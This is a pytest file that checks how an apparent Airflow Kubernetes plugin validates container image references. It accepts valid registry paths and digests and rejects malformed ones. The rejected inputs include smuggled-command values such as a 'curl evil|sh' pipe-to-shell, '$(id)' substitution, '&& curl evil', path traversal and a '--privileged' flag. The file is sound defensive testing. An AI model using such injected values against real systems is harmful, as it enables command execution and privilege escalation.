"""An image is an image reference as registries parse it, for the DAG's author and for a run's choice alike:
nothing a shell, a template or another registry's path could read in it."""

from __future__ import annotations

import pytest

from airflow_dtrain.errors import SpecError
from airflow_dtrain.kubernetes.spec import KubernetesSpec

DIGEST = "sha256:" + "0123456789abcdef" * 4


@pytest.mark.parametrize(
    "image",
    ["dtrain", "dtrain:latest", "localhost:5000/dtrain:dev", "ghcr.io/acme/ml/dtrain:1.2.3-rc1",
     f"ghcr.io/acme/dtrain@{DIGEST}", f"ghcr.io/acme/dtrain:1.0@{DIGEST}", "Registry.Example.com/a__b/c-d"],
)  # fmt: skip
def test_an_image_reference_is_accepted(image):
    assert KubernetesSpec.from_value({"image": image}).image == image


@pytest.mark.parametrize(
    "image",
    ["ghcr.io/acme/dtrain:1.0;curl evil|sh", "ghcr.io/acme/dtrain:$(id)", "ghcr.io/ACME/dtrain",
     "dtrain:-bad", "dtrain::1", "ghcr.io/acme/../evil", "dtrain@sha256:short", "dtrain:1.0 --privileged"],
)  # fmt: skip
def test_anything_else_is_refused_naming_the_field_and_the_value(image):
    with pytest.raises(SpecError, match=r"kubernetes\.image") as err:
        KubernetesSpec.from_value({"image": image})
    assert repr(image) in str(err.value)


@pytest.mark.parametrize(
    "prefix", ["ghcr.io/", "ghcr.io/acme/", "ghcr.io/acme/dtrain:", "ghcr.io/acme/dtrain@"]
)
def test_an_allowed_prefix_ends_in_a_separator(prefix):
    assert KubernetesSpec.from_value({"allowed_images": [prefix]}).allowed_images == (prefix,)


def test_a_run_cannot_append_to_an_allowed_prefix_what_no_registry_would_parse():
    author = KubernetesSpec.from_value(
        {"image": "ghcr.io/acme/dtrain:1.0", "allowed_images": ["ghcr.io/acme/dtrain:"]}
    )
    assert author.choose({"image": "ghcr.io/acme/dtrain:1.1"}).image == "ghcr.io/acme/dtrain:1.1"
    with pytest.raises(
        SpecError, match=r"kubernetes\.image: 'ghcr.io/acme/dtrain:1.1 && curl evil' is not allowed"
    ):
        author.choose({"image": "ghcr.io/acme/dtrain:1.1 && curl evil"})
